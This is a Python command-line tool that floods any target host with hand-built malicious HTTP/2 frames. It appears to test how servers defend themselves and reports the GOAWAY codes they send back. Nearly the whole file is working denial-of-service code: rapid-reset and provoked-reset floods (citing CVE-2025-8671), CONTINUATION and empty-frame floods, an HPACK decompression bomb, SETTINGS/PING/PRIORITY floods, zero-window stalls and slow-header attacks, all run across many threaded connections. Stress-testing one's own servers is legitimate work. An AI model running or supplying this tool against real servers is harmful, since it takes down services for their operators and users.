"""HTTP/2 as only attackers write it, frame by frame: python http2_attack.py HOST PORT AUTHORITY ATTACK CONNECTIONS SECONDS

Each connection sends until the server ends it, or for so long. Says at the end how many were ended, and with which error codes of
GOAWAY."""

import collections
import socket
import struct
import sys
import threading
import time

host, port, authority, attack, connections, seconds = sys.argv[1:]

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix):
    """RFC 7541, 5.1."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([value])
    encoded, value = bytes([most]), value - most
    while value >= 128:
        encoded, value = encoded + bytes([value % 128 + 128]), value // 128
    return encoded + bytes([value])


def literal(name, value, kind=0):
    """A header that is not (0), or is (0x40), remembered."""
    return bytes([kind]) + integer(len(name), 7) + name + integer(len(value), 7) + value


def get(path=b"/", more=b""):
    # Indexed: GET, http.
    return b"\x82\x86" + literal(b":path", path) + literal(b":authority", authority.encode()) + more


def request(stream, end=END_STREAM, **how):
    return frame(HEADERS, END_HEADERS | end, stream, get(**how))


def batches(most, make):
    """What `make` makes of odd numbers, many streams in one write."""
    stream = 1
    while True:
        yield b"".join(make(number) for number in range(stream, stream + 2 * most, 2))
        stream += 2 * most


def rapid_reset():
    return batches(200, lambda stream: request(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def provoked_resets():
    """The server is made to reset (CVE-2025-8671): more window than there may be is an error of the stream (RFC 9113, 6.9.1)."""
    return batches(50, lambda stream: request(stream, end=0) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF)))


def malformed():
    """Headers of one connection make a stream error (RFC 9113, 8.2.2)."""
    return batches(50, lambda stream: request(stream, more=literal(b"connection", b"close")))


def continuations():
    yield frame(HEADERS, END_STREAM, 1, get())
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x-more", b"y" * 8000))


def empty_continuations():
    yield frame(HEADERS, END_STREAM, 1, get())
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


def empty_data():
    yield request(1, end=0)
    while True:
        yield frame(DATA, 0, 1) * 1000


def hpack_bomb():
    """One large header that is remembered, and named thousands of times by one byte each."""
    return batches(1, lambda stream: request(stream, more=literal(b"x-bomb", b"b" * 4000, 0x40) + b"\xbe" * 12000))


def many_headers():
    return batches(1, lambda stream: request(stream, more=b"".join(literal(b"a%d" % number, b"") for number in range(900))))


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500


def pings():
    while True:
        yield frame(PING, 0, 0, b"12345678") * 500


def priorities():
    while True:
        yield frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 1000


def window_updates():
    """One byte more each time, for a stream that asks for much."""
    yield request(1, path=b"/files/large")
    while True:
        yield (frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))) * 500


def windows_of_zero():
    """Asks for much and takes nothing of it."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    yield b"".join(request(stream, path=b"/files/large") for stream in range(1, 60, 2))
    time.sleep(float(seconds))


def slow_head():
    """A head that does not end, a byte at a time."""
    block = frame(HEADERS, END_STREAM | END_HEADERS, 1, get(more=literal(b"x-slow", b"s" * 1000)))
    for byte in block[:-1]:
        yield bytes([byte])
        time.sleep(0.05)


attacks = {
    "rapid-reset": rapid_reset,
    "provoked-resets": provoked_resets,
    "malformed": malformed,
    "continuations": continuations,
    "empty-continuations": empty_continuations,
    "empty-data": empty_data,
    "hpack-bomb": hpack_bomb,
    "many-headers": many_headers,
    "settings": settings,
    "pings": pings,
    "priorities": priorities,
    "window-updates": window_updates,
    "windows-of-zero": windows_of_zero,
    "slow-head": slow_head,
}

results = collections.Counter()
# The others let answers pile up.
reads = attack not in ("settings", "pings", "windows-of-zero")


class Frames:
    """What of the server's frames matters: GOAWAY."""

    def __init__(self):
        self.rest, self.goaway, self.resets = b"", None, 0

    def take(self, data):
        self.rest += data
        while len(self.rest) >= 9:
            length, kind = int.from_bytes(self.rest[:3], "big"), self.rest[3]
            if len(self.rest) < 9 + length:
                return
            if kind == GOAWAY:
                self.goaway = struct.unpack(">I", self.rest[13:17])[0]
            self.resets += kind == RST_STREAM
            self.rest = self.rest[9 + length :]


def read(connection, frames, limit):
    """Whether the server has ended the connection."""
    connection.settimeout(limit)
    try:
        while data := connection.recv(1 << 16):
            frames.take(data)
            if frames.goaway not in (None, 0):
                return True
            connection.settimeout(0)
        return True
    except (BlockingIOError, TimeoutError):
        return False


def one():
    connection = socket.create_connection((host, int(port)), timeout=20)
    frames, ended, end = Frames(), False, time.monotonic() + float(seconds)
    try:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for piece in attacks[attack]():
            if time.monotonic() > end:
                break
            connection.settimeout(1)
            try:
                connection.sendall(piece)
            except TimeoutError:
                # The server does not read on: that is a defence too.
                break
            if reads and read(connection, frames, 0):
                ended = True
                break
        ended = ended or read(connection, frames, 2)
    except ConnectionError:
        try:
            read(connection, frames, 1)
        except ConnectionError:
            pass
        ended = True
    results["ended" if ended else "left"] += 1
    results["resets"] += frames.resets
    if frames.goaway is not None:
        results[f"goaway {frames.goaway}"] += 1
    connection.close()


threads = [threading.Thread(target=one) for _ in range(int(connections))]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(", ".join(f"{count} {what}" for what, count in sorted(results.items())))
